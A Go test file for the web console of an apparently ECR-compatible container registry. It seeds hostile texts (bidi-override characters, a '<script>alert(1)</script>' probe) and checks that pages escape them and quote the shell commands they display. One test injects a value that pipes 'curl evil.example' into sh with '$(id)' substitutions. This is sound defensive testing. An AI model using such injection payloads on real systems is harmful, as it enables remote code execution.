package console_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/ecr"

	"github.com/ecrin-dev/ecrin/internal/test/apptest"
	"github.com/ecrin-dev/ecrin/internal/test/ocitest"
)

// turned has a character that turns the direction of what follows it, and markup.
const turned = "a\u202eb\u2066<script>alert(1)</script>"

// imageOf pushes an image with a config and any members of its manifest, and returns its digest.
func imageOf(t *testing.T, repo ocitest.Repo, tag string, config any, layers int, more map[string]any) string {
	t.Helper()
	text, err := json.Marshal(config)
	if err != nil {
		t.Fatal(err)
	}
	repo.PutBlob(t, text)
	layer := ocitest.Bytes(7, 100)
	repo.PutBlob(t, layer)
	m := map[string]any{"schemaVersion": 2, "mediaType": ocitest.ImageType,
		"config": ocitest.Describe("application/vnd.oci.image.config.v1+json", text)}
	all := make([]ocitest.Descriptor, layers)
	for i := range all {
		all[i] = ocitest.Describe("application/vnd.oci.image.layer.v1.tar+gzip", layer)
	}
	m["layers"] = all
	for key, value := range more {
		m[key] = value
	}
	body, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	repo.PutManifest(t, tag, ocitest.ImageType, body).Want(t, 201)
	return ocitest.SHA256(body)
}

// raw returns the parts of a page in which texts of others may have any character, because they are edited or copied: values of fields.
var raw = regexp.MustCompile(`(?s)<textarea.*?</textarea>|(?:value|data-copy)="[^"]*"`)

// checkPage fails the test for what no page may have.
func checkPage(t *testing.T, at, page string) {
	t.Helper()
	plain := raw.ReplaceAllString(page, "")
	for _, c := range []string{"\u202e", "\u2066", "\u200b", "<script>alert", "ZgotmplZ", "<no value>", "%!"} {
		if i := strings.Index(plain, c); i >= 0 {
			t.Errorf("%s has %q: …%s…", at, c, plain[max(0, i-120):min(len(plain), i+60)])
		}
	}
	if n := strings.Count(page, "<h1"); n != 1 {
		t.Errorf("%s has %d h1", at, n)
	}
	if !strings.Contains(page, `<body class="alone"`) && !strings.Contains(page, `class="skip" href="#main"`) {
		t.Errorf("%s has no link to its content", at)
	}
	for _, id := range regexp.MustCompile(`(?:aria-describedby|aria-labelledby|for)="([^"]+)"`).FindAllStringSubmatch(page, -1) {
		for _, one := range strings.Fields(id[1]) {
			if !strings.Contains(page, `id="`+one+`"`) {
				t.Errorf("%s names the element %q, which is not there", at, one)
			}
		}
	}
}

var hrefOf = regexp.MustCompile(`href="([^"]+)"`)

// crawl opens the pages that links lead to, of each form of address a few, and returns how many there were.
func (v *visitor) crawl(from string, most int, each func(at string, g got)) int {
	v.t.Helper()
	queue, known, alike, n := []string{from}, map[string]bool{}, map[string]int{}, 0
	form := func(at string) string {
		u, err := url.Parse(at)
		if err != nil {
			return at
		}
		path := regexp.MustCompile(`sha256:[0-9a-f]+|/tags/[^/]+|/jobs/.+|/denied/.+`).ReplaceAllString(u.Path, "ID")
		keys := ""
		for _, key := range []string{"after", "open", "sort", "from", "file", "part", "q", "days", "state", "version", "edit", "show"} {
			if u.Query().Has(key) {
				keys += key + " "
			}
		}
		return path + "?" + keys
	}
	for ; len(queue) > 0 && n < most; queue = queue[1:] {
		at, _, _ := strings.Cut(strings.ReplaceAll(queue[0], "&amp;", "&"), "#")
		if known[at] || !strings.HasPrefix(at, "/console") || strings.HasPrefix(at, "/console/a/") || alike[form(at)] >= 2 {
			continue
		}
		known[at] = true
		alike[form(at)]++
		g := v.get(at)
		if strings.HasPrefix(g.location, "/console") && len(known) < 4*most {
			queue = append(queue, g.location)
		}
		if !strings.HasPrefix(g.header.Get("Content-Type"), "text/html") {
			continue
		}
		n++
		each(at, g)
		for _, m := range hrefOf.FindAllStringSubmatch(g.body, -1) {
			queue = append(queue, m[1])
		}
	}
	return n
}

// stockHostile makes something with hostile texts for each kind of page.
func stockHostile(t *testing.T, s *apptest.Server, v *visitor, root apptest.Account) {
	t.Helper()
	repo := root.CreateRepository(t, "team/app")
	config := map[string]any{"architecture": turned, "os": turned, "author": turned, "config": map[string]any{"Env": []string{"A=" + turned},
		"Labels": map[string]string{turned: turned}, "Entrypoint": []string{turned}, "User": turned, "WorkingDir": turned},
		"history": []any{map[string]any{"created_by": "RUN " + turned}, map[string]any{"created_by": turned, "empty_layer": true},
			map[string]any{"created_by": "RUN\u202e x", "empty_layer": true}}}
	digest := imageOf(t, repo, "1.0", config, 1, map[string]any{"annotations": map[string]string{turned: turned}})
	imageOf(t, repo, "1.1", map[string]any{}, 0, map[string]any{"artifactType": "application/x.test",
		"subject": map[string]any{"mediaType": ocitest.ImageType, "digest": digest, "size": 10}})
	other := s.NewAccount(t, "111122223333").Docker(t)
	if _, err := root.ECR().SetRepositoryPolicy(t.Context(), &ecr.SetRepositoryPolicyInput{RepositoryName: aws.String("team/app"),
		PolicyText: aws.String(`{"Version":"2012-10-17","Statement":[{"Sid":"One","Effect":"Allow","Principal":{"AWS":"111122223333"},` +
			`"Action":"ecr:BatchGetImage","Condition":{"StringLike":{"aws:PrincipalArn":"a` + "\u202e" + `b"}}}]}`)}); err != nil {
		t.Fatal(err)
	}
	other.Prefix = ""
	other.Do(t, http.MethodGet, "/v2/team/app/manifests/1.0", nil, "User-Agent", turned)
	app, _ := v.made(base+"/applications", "name", turned, "slug", "evil")
	channel := channelID(t, v, app, "Unstable")
	customer, _ := v.made(app+"/create-customer", "name", turned, "email", turned, "customId", turned, "channel", channel)
	release, _ := v.made(app+"/create-release", "file", "a.yaml", "text", "a: "+turned+"\n")
	v.made(release+"/promote", "do", "promote", "channel", channel, "label", turned, "notes", turned)
	v.made(app, "name", turned, "description", turned)
	v.made(customer+"/entitle", "do", "entitle", "repositories", "team/*")
	if m := shownToken.FindStringSubmatch(v.post(customer, "do", "make", "token", "ci").body); m != nil {
		v.pull(m[1], "team/app:none")
	}
	v.post("/console/000000000000/access/roles", "name", "deploy", "path", "/", "description", turned, "trusts", "account", "trusted",
		"000000000000")
	v.post("/console/000000000000/access/users", "name", "alice", "path", "/")
	v.post(base+"/events", "do", "create", "name", "hook", "url", "https://127.0.0.1:1/x", "pattern",
		`{"detail":{"image-tag":["a`+"\u202e"+`"]}}`)
	v.post(base+"/pull-through", "do", "create", "prefix", "quay", "upstream", "quay.io")
	v.post(base+"/templates", "do", "create", "prefix", "team", "description", turned, "for", "CREATE_ON_PUSH", "policy",
		`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":"*","Action":"ecr:BatchGetImage","Condition":{"StringLike":`+
			`{"aws:PrincipalArn":"a`+"\u202e"+`b"}}}]}`)
}

// Each page that links lead to shows texts of others without characters that turn or hide what stands beside them, has one h1, a link to
// its content, and no reference to an element that is not there; for a person who may do nothing each page says so in its place.
func TestHostileTextsEverywhere(t *testing.T) {
	t.Parallel()
	s := apptest.Start(t, apptest.Options{})
	root := s.Root(t)
	v := visit(t, s).in(root)
	stockHostile(t, s, v, root)
	s.Restart(t) // writes the lines of the log that wait
	var found []string
	n := v.crawl("/console/", 300, func(at string, g got) {
		found = append(found, at)
		if g.status != http.StatusOK && !strings.Contains(at, "/jobs/") { // a job that has ended since may be gone
			t.Errorf("%s: got %d", at, g.status)
		}
		checkPage(t, at, g.body)
	})
	if n < 100 {
		t.Errorf("%d pages were found, want more: %q", n, found)
	}
	nobody := visit(t, s).in(userWith(t, s, root, "nobody",
		`{"Version":"2012-10-17","Statement":[{"Effect":"Deny","Action":"*","Resource":"*"}]}`))
	denied := 0
	for _, at := range found {
		g := nobody.get(at)
		switch {
		case g.status >= 300 && g.status < 400:
			continue
		case g.status != http.StatusOK && g.status != http.StatusForbidden && g.status != http.StatusNotFound:
			t.Errorf("%s for a person without rights: got %d", at, g.status)
		}
		checkPage(t, at+" without rights", g.body)
		if strings.Contains(g.body, "You may not see or do this") || strings.Contains(g.body, "You need ") {
			denied++
		}
	}
	if denied < len(found)/2 {
		t.Errorf("of %d pages %d say what is denied", len(found), denied)
	}
}

// A page of enormous things has a bounded size: it shows the first of them, says how many more there are, and leads to the next.
func TestEnormousImages(t *testing.T) {
	t.Parallel()
	s := apptest.Start(t, apptest.Options{})
	root := s.Root(t)
	repo := root.CreateRepository(t, "team/app")
	long := strings.Repeat("A", 300_000)
	var history []any
	env, labels := []string{}, map[string]string{}
	for i := range 9000 {
		history = append(history, map[string]any{"created_by": "X", "empty_layer": true})
		env = append(env, fmt.Sprint("V", i, "=1"))
		labels[fmt.Sprint("l", i)] = "1"
	}
	history = append(history, map[string]any{"created_by": long})
	big := imageOf(t, repo, "big", map[string]any{"config": map[string]any{"Env": env, "Labels": labels}, "history": history}, 9000, nil)
	imageOf(t, repo, "big2", map[string]any{"config": map[string]any{"Env": append(env[1:], "W=1")}}, 9001, nil)
	var children []any
	for i := range 1000 {
		children = append(children, map[string]any{"mediaType": ocitest.ImageType, "digest": big, "size": 10,
			"platform": map[string]string{"os": "linux", "architecture": fmt.Sprint("a", i)}})
	}
	index, err := json.Marshal(map[string]any{"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json",
		"manifests": children})
	if err != nil {
		t.Fatal(err)
	}
	repo.PutManifest(t, "index", "application/vnd.oci.image.index.v1+json", index).Want(t, 201)
	v := visit(t, s).in(root)
	at := base + "/repositories/team/app"
	const most = 700_000
	for path, texts := range map[string][]string{
		at + "/-/tags/big":                 {"rows more", "are not shown", "too long to be shown here"},
		at + "/-/tags/index":               {"50 images of 1,000", "linux/a49"},
		at + "/-/tags/index?from=950":      {"linux/a999", "First"},
		at + "/-/tags/index?from=-5":       {"linux/a0"},
		at + "/-/tags/index?from=99999999": {"50 images of 1,000", "linux/a999"},
		at + "?open=index":                 {"950 more on the page of the image"},
		at + "/-/tags/big2?with=big":       {"layers more", "lines more"},
	} {
		begun := time.Now()
		page := v.page(path)
		has(t, page, texts...)
		if len(page) > most {
			t.Errorf("%s has %d bytes", path, len(page))
		}
		t.Logf("%s: %d bytes, %v", path, len(page), time.Since(begun))
	}
	if page := v.page(at + "/-/tags/index"); strings.Contains(page, "linux/a50<") {
		t.Error("the first page of the index has more than 50 images")
	}
	var may []string
	for i := range 30 {
		may = append(may, newRole(t, s, root, fmt.Sprint("r", i)))
	}
	policy, err := json.Marshal(map[string]any{"Version": "2012-10-17", "Statement": []any{map[string]any{"Effect": "Allow",
		"Principal": map[string]any{"AWS": may}, "Action": "ecr:BatchGetImage"}}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := root.ECR().SetRepositoryPolicy(t.Context(), &ecr.SetRepositoryPolicyInput{RepositoryName: aws.String("team/app"),
		PolicyText: aws.String(string(policy))}); err != nil {
		t.Fatal(err)
	}
	for _, platform := range []string{"", "plan9/mips"} {
		g := v.post(base+"/preflight", "do", "check", "text", pod(s.Running.Address+"/team/app:index"), "platform", platform)
		has(t, g.body, "and 980 more", "and 10 more")
		if n := strings.Count(g.body, "linux/a"); n > 41 {
			t.Errorf("%q: the page names %d platforms", platform, n)
		}
	}
}

// Commands that pages show stand for what they name, whatever it is: an address of others cannot make a person run another command.
func TestCommandsOfPagesAreQuoted(t *testing.T) {
	t.Parallel()
	s := apptest.Start(t, apptest.Options{})
	root := s.Root(t)
	v := visit(t, s).in(root)
	_, customer := shop(t, v)
	nobody := visit(t, s).in(userWith(t, s, root, "nobody",
		`{"Version":"2012-10-17","Statement":[{"Effect":"Deny","Action":"*","Resource":"*"}]}`))
	const evil = "x;curl evil.example|sh;'$(id)`id`\n"
	query, path := url.QueryEscape(evil), url.PathEscape(evil)
	for who, paths := range map[*visitor][]string{
		v: {"/console/ask?address=" + query, customer + "/entitle?repository=" + query},
		nobody: {base + "/applications/" + path, base + "/applications/evil/customers/" + path, base + "/applications/" + path + "/releases",
			"/console/000000000000/access/users/" + path, "/console/000000000000/access/roles/" + path + "/sessions"},
	} {
		for _, at := range paths {
			g := who.get(at)
			commands := regexp.MustCompile(`(?s)<(?:pre|code)[^>]*>(.*?)</(?:pre|code)>|data-copy="([^"]*)"`)
			for _, text := range commands.FindAllStringSubmatch(g.body, -1) {
				line := strings.NewReplacer("&#39;", "'", "&#34;", `"`, "&amp;", "&", "&lt;", "<", "&gt;", ">").Replace(text[1] + text[2])
				if !strings.HasPrefix(line, "ecrin ") && !strings.HasPrefix(line, "aws ") {
					continue
				}
				if left := regexp.MustCompile(`'[^']*'|\\'`).ReplaceAllString(line, ""); strings.ContainsAny(left, ";|$`\n") {
					t.Errorf("%s shows the command %s", at, line)
				}
			}
		}
	}
}

// What a person may not see is denied on the page, and not shown as if there were none of it.
func TestDeniedIsNotEmpty(t *testing.T) {
	t.Parallel()
	s := apptest.Start(t, apptest.Options{})
	root := s.Root(t)
	nobody := visit(t, s).in(userWith(t, s, root, "nobody",
		`{"Version":"2012-10-17","Statement":[{"Effect":"Deny","Action":"*","Resource":"*"}]}`))
	for path, never := range map[string]string{
		"/applications": "No applications yet", "/customers": "No applications yet", "/usage": "Nothing was denied in this time",
		"/integrations": "0 ways into",
	} {
		page := nobody.get(base + path).body
		if has(t, page, "You may not see or do this", "is not authorized to perform"); strings.Contains(page, never) {
			t.Errorf("%s says %q to who may not see it", path, never)
		}
	}
}

// Each denial of a page leads to the explanation of the operation that was denied, however often the page was asked for.
func TestDenialsOfAPageAreExplained(t *testing.T) {
	t.Parallel()
	s := apptest.Start(t, apptest.Options{})
	root := s.Root(t)
	root.CreateRepository(t, "team/app").Push(t, "1.0", ocitest.NewImage(1, 100))
	v := visit(t, s).in(userWith(t, s, root, "half", `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Resource":"*",
		"Action":["ecr:DescribeRepositories","ecrin:ExplainRequest","ecrin:SearchRepositories"]}]}`))
	at := base + "/repositories/team/app/-/"
	links := regexp.MustCompile(`is not authorized to perform: (?:<[^>]*>)*([A-Za-z]+:[A-Za-z]+)[^ ]* (?s:.*?)href="(/console/denied/[^"]+)"`)
	for path, least := range map[string]int{"permissions": 2, "images": 1} {
		for range 15 {
			found := links.FindAllStringSubmatch(v.get(at+path).body, -1)
			if len(found) < least {
				t.Fatalf("%s: got %d denials", path, len(found))
			}
			for _, f := range found {
				if g := v.get(f[2]); g.status != http.StatusOK || !strings.Contains(g.body, "may not do") || !strings.Contains(g.body, f[1]) {
					t.Fatalf("%s, %s: got %d\n%s", path, f[1], g.status, g.body)
				}
			}
		}
	}
	page := v.page(at + "settings")
	has(t, page, "You need ecr:", "What to ask for")
	has(t, v.page(linkOf(t, page, "What to ask for")), "&#34;Action&#34;")
	blind := visit(t, s).in(userWith(t, s, root, "blind",
		`{"Version":"2012-10-17","Statement":[{"Effect":"Deny","Resource":"*","Action":"*"}]}`))
	if g := blind.get("/console/denied/01234567-89ab-4cde-8f01-23456789abcd"); strings.Contains(g.body, `href="/console/denied/`) {
		t.Error("a denied explanation leads to another denied one")
	}
}
